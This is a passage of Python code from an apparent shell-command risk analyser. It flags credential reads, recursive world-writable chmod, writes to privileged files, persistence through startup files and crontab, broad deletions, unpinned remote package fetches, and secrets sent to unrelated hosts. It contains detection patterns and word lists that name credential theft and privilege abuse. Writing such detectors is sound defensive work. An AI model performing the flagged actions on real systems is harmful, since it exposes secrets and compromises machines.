                self.add("AH803", "high", f"{says} (`{joined[:60]}`)")
                break
        if name in _index()["readers"]:
            for word in list(args) + [t for op, t in cmd.redirects if op == "<"]:
                says = _credential(word)
                if says and says != "the project's secrets file":
                    self.add("AH801", "high", f"reads {says} (`{word[:60]}`)")
                    return

    # -- privileges and firewalls ----------------------------------------------

    def _privilege(self, cmd: Command, name: str, words: list[str], args: list[str], depth: int) -> None:
        priv = table()["privilege"]
        for parts, says in _index()["privilege"].get(name, ()):
            if words[1:len(parts)] == parts[1:]:
                self.add("AH710", "high", f"{says} (`{' '.join(words)[:60]}`)")
                return
        if name == "chmod" and any(a in ("-R", "--recursive") for a in args) and any(
                a in ("777", "666", "a+rwx", "o+w", "a+w", "ugo+rwx") for a in args):
            target = _operands(args, set())[-1:] or [""]
            if _broad(target[0], table()["destroy"]) or target[0] in ("/", "~", "$HOME"):
                self.add("AH710", "high", f"makes everything under `{target[0]}` writable by every user")
        written = [t for op, t in cmd.redirects if op.startswith(">")]
        if name in ("tee", "cp", "mv", "install", "ln", "visudo") or name == "sed" and "-i" in " ".join(args):
            written += [a for a in args if not a.startswith("-")][-1:] if name != "tee" else \
                [a for a in args if not a.startswith("-")]
        for target in written:
            for path, says in priv["files"].items():
                if target == path or (path.endswith("/") and target.startswith(path)) or \
                        (not path.startswith("/") and target.endswith(path)):
                    self.add("AH710", "high", f"writes `{target}`, which {says}")
                    return

    # -- persistence -----------------------------------------------------------

    def _persist(self, cmd: Command, name: str, words: list[str], args: list[str], depth: int) -> None:
        spec = table()["persistence"]
        written = [t for op, t in cmd.redirects if op in (">>", ">", ">|", "&>>")]
        if name == "tee":
            written += [a for a in args if not a.startswith("-")]
        for target in written:
            bare = target.replace("$HOME/", "~/").replace("${HOME}/", "~/")
            if any(bare.endswith(f) or (f.endswith("/") and f in bare) for f in spec["files"]):
                payload = " ".join(words[1:]) if name in ("echo", "printf") else ""
                before = len(self.effects)
                if payload:
                    self.code("shell", payload, depth + 1)
                severity = "high" if len(self.effects) > before else "medium"
                self.add("AH708", severity, f"plants a command in `{target}`, which runs again at every start")
                return
        joined = " ".join(words)
        if any(joined.startswith(c) for c in spec["commands"]) or (name == "crontab" and args and
                                                                   not args[0].startswith("-")):
            self.add("AH708", "medium", f"schedules a command to run again later (`{joined[:60]}`)")


_FILTERS = frozenset(("grep", "egrep", "fgrep", "rg", "awk", "sed", "wc", "cut", "jq"))


def _is_dump(words: list[str], dumps: frozenset[str]) -> bool:
    return bool(words) and (" ".join(words) in dumps or (_name(words[0]) in ("env", "printenv") and len(words) == 1))


_SECRETISH = lazyre.compile(r"\$\{?\w*(?:TOKEN|SECRET|KEY|PASS|PWD|CRED|AUTH|COOKIE|SESSION)", re.IGNORECASE)


def _secretish(value: str) -> bool:
    return bool(_SECRETISH.search(value))


_VARIABLE = lazyre.compile(r"\$(?:env:|\{)?([A-Za-z_][A-Za-z0-9_]{0,80})")
_SECRET_WORD = lazyre.compile(r"TOKEN|SECRET|KEY|PASS|PWD|CRED|AUTH|COOKIE|SESSION", re.IGNORECASE)
# Words of a variable's name that say what it is, not whose it is.
_GENERIC_WORDS = frozenset(("TOKEN", "TOKENS", "SECRET", "KEY", "KEYS", "API", "ACCESS", "AUTH", "PASSWORD", "PASS",
                            "PWD", "BEARER", "CLIENT", "ID", "PRIVATE", "PERSONAL", "APP", "SESSION", "COOKIE", "CRED",
                            "CREDS", "CREDENTIAL", "CREDENTIALS", "USER", "USERNAME", "PAT", "OAUTH", "ADMIN", "MY",
                            "DEFAULT", "SERVICE", "ACCOUNT", "WEBHOOK", "SIGNING", "SHARED", "MASTER", "ROOT", "PROD",
                            "DEV", "TEST", "STAGING", "READ", "WRITE", "DEPLOY", "CI", "ENV", "HOME", "URL", "HOST"))


def _secret_names(text: str) -> list[str]:
    """The secret-looking variables a value expands (`$AWS_SECRET_ACCESS_KEY`, `${API_KEY}`, `$env:TOKEN`)."""
    return [m.group(1) for m in _VARIABLE.finditer(text[:4096]) if _SECRET_WORD.search(m.group(1))]


def _registered(host: str) -> str:
    """The label a host is registered under: `stripe` for api.stripe.com, `acme` for api.acme.co.uk."""
    labels = host.split(".")
    if len(labels) < 2:
        return ""
    if len(labels) >= 3 and labels[-2] in ("co", "com", "org", "net", "ac", "gov", "edu") and len(labels[-1]) == 2:
        return labels[-3]
    return labels[-2]


def known_secret(name: str) -> bool:
    """A variable a well-known service's tools read (`GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`)."""
    return any(word in table()["credentials"]["services"] for word in name.upper().split("_"))


_PLACEHOLDER_HOST = lazyre.compile(r"(?:^|[./@])(?:<[^<>/\s]{1,40}>|\{\{?[^{}/\s]{1,40}\}\}?|YOUR[-_A-Z0-9]{0,30}"
                                   r"|your-[-a-z0-9]{1,30}|SUBDOMAIN|DOMAIN|ACCOUNT|PROJECT|TENANT|WORKSPACE|REGION)"
                                   r"(?=[.:/]|$)")


def own_service(names: list[str], host: str, dest: str) -> bool:
    """Every secret goes to the service it belongs to: a word of its name is the host's registered name or a
    service listed for it, or the address is a template the reader fills in with their own host
    (`https://<your-app>.workers.dev`)."""
    if not names:
        return False
    raw_host = dest.split("://", 1)[-1].split("/", 1)[0].split("?", 1)[0]
    if _PLACEHOLDER_HOST.search(raw_host):
        return True
    services = table()["credentials"]["services"]
    registered = _registered(host).replace("-", "")
    for name in names:
        words = [w.lower() for w in name.upper().split("_") if w and w not in _GENERIC_WORDS]
        known = [services[w.upper()] for w in words if w.upper() in services]
        if known:
            # a well-known service's secret belongs to that service's own domains only
            if not any(host == d or host.endswith("." + d) for domains in known for d in domains):
                return False
            continue
        runs = {"".join(words[i:j]) for i in range(len(words)) for j in range(i + 1, len(words) + 1)}
        if len(registered) < 3 or registered not in runs:
            return False
    return True


def _xargs_fed(words: list[str]) -> str:
    """The replace-string of `xargs -I{}` ('' when xargs appends what it reads)."""
    for i, word in enumerate(words):
        if word in ("-I", "--replace") and i + 1 < len(words):
            return words[i + 1]
        if word.startswith("-I") and len(word) > 2:
            return word[2:]
        if word.startswith("--replace="):
            return word.split("=", 1)[1] or "{}"
        if word in ("-i", "--replace"):
            return "{}"
        if not word.startswith("-") and i > 0 and words[i - 1] not in _XARGS_VALUES:
            break
    return ""


_XARGS_VALUES = frozenset(("-n", "-P", "-d", "-L", "-l", "-s", "-E", "-e", "-a", "--max-args", "--max-procs",
                           "--delimiter", "--arg-file"))


def _fed_into(marker: str, args: list[str], spec: dict[str, Any], host: str) -> bool:
    """Whether what xargs reads lands in the request, not in its host: a replace-string in the address's path
    or query or in a data or header value, or the lines appended after an option that takes a value (`-d`)."""
    if not marker:
        return bool(args) and args[-1] in (set(spec.get("data", ())) | set(spec.get("meta", ())) |
                                           set(spec.get("postdata", ())))
    return any(marker in arg for arg in args) and marker not in host


_FORGE_SHORTHANDS = (("github:", "https://github.com/"), ("gitlab:", "https://gitlab.com/"),
                     ("bitbucket:", "https://bitbucket.org/"), ("gist:", "https://gist.github.com/"))
_PINNED_REF = lazyre.compile(r"^(?:[0-9a-f]{7,40}|v?\d+(?:\.\d+){1,3}(?:[-+][\w.]{1,40})?)$", re.IGNORECASE)
_REPO_SHORTHAND = lazyre.compile(r"^[A-Za-z0-9][\w.-]{0,38}/[\w.-]{1,100}(?:#\S{0,100})?$")
_URL_VERSION = lazyre.compile(r"[@/-]v?\d+\.\d+")


def _unfixed_source(spec: str, runner: str, go: bool, urls_only: bool) -> str:
    """The repository or address a runner's package spec fetches when no revision fixes it, else ''."""
    if go:
        module, at, version = spec.partition("@")
        if at and "." in module.split("/", 1)[0] and not _PINNED_REF.match(version):
            return module  # `go run github.com/x/y@latest`
        return ""
    git = spec.startswith(("git+", "git://", "github:", "gitlab:", "bitbucket:", "gist:"))
    if not git and "://" not in spec:
        if urls_only or spec.startswith(("@", ".", "/", "~")) or runner.split()[0] in ("uvx", "uv", "pipx"):
            return ""
        if not _REPO_SHORTHAND.match(spec):
            return ""  # a registry package, fixed by its version or the lockfile
        git = True  # `npx user/repo` fetches the GitHub repository
    source, _, fragment = spec.partition("#")
    ref = fragment if fragment and "=" not in fragment else ""
    if not ref and git:
        tail = source.rstrip("/").rsplit("/", 1)[-1]
        ref = tail.rsplit("@", 1)[1] if "@" in tail else ""
    if ref and _PINNED_REF.match(ref.removeprefix("semver:")):
        return ""
    for short, forge in _FORGE_SHORTHANDS:
        if source.startswith(short):
            return forge + source[len(short):]
    if "://" not in source:
        return "https://github.com/" + source  # `user/repo`
    if not git:
        host = _host_of(source)
        if any(host == h or host.endswith("." + h) for h in table()["fixed_sources"]["hosts"]) and \
                _URL_VERSION.search(source.split("://", 1)[-1]):
            return ""
    return source


def _broad(target: str, t: dict[str, Any]) -> str:
    """Why a delete target is broad ('' when it is not)."""
    target = target.strip("'\"")
    if not target:
        return ""
    if target in t["broad"] or target.rstrip("/") in ("", "~", "$HOME", "${HOME}"):
        return "the root, the home directory or everything in the current one" if target not in (".", "./", "./*",
                                                                                                  "*") else \
            "everything in the working directory"
    for prefix in ("~/", "$HOME/", "${HOME}/"):
        if target.startswith(prefix):
            first = target[len(prefix):].split("/", 1)[0]
            if first in t["home_valuable"] and target[len(prefix):].rstrip("/*").count("/") == 0:
                return f"`{target}` in the home directory"
            return ""
    if target.startswith("/"):
        clean = posixpath.normpath(target.rstrip("*")) if target.rstrip("*") else "/"
        if any(clean == d or clean.startswith(d + "/") for d in t["disposable"]):
            return ""
        top = "/" + clean.strip("/").split("/", 1)[0]
        if top in t["system"] and clean.count("/") <= 3:
            return f"the system directory `{target}`"
    return ""


def _signature(cmd: Command) -> tuple[Any, ...]:
    """What a command's effects depend on, so that a line repeating one command judges it once."""
    return (cmd.argv, cmd.redirects, cmd.piped_in, cmd.piped_out, cmd.captured,
            tuple(u.argv for u in cmd.upstream), tuple(i.argv for i in cmd.inner))


_MEMO_LIMIT = 4096


def judge(commands: list[Command], env: Env, memo: dict[tuple[Any, ...], list[Effect]] | None = None) -> list[Effect]:
    """The effects of parsed commands, each once. `memo` keeps the effects of
    commands already judged (by signature) across calls on the same text."""
    judge_ = _Judge(env)
    memo = {} if memo is None or env.hosts_rewritten else memo
    for cmd in commands:
        signature = _signature(cmd)
        known = memo.get(signature)
        if known is not None:
            judge_.effects.extend(known)
            continue
        before = len(judge_.effects)
        judge_.command(cmd, 0)
        if len(memo) < _MEMO_LIMIT:
            memo[signature] = judge_.effects[before:]
    seen: set[Effect] = set()
    out = []
    for effect in judge_.effects:
        if effect not in seen:
            seen.add(effect)
            out.append(effect)
    return out


def judge_text(text: str, env: Env | None = None,
               memo: dict[tuple[Any, ...], list[Effect]] | None = None) -> list[Effect]:
    """The effects of every command in `text` read as shell."""
    env = env or Env()
    return judge(shell.parse(text, env), env, memo)

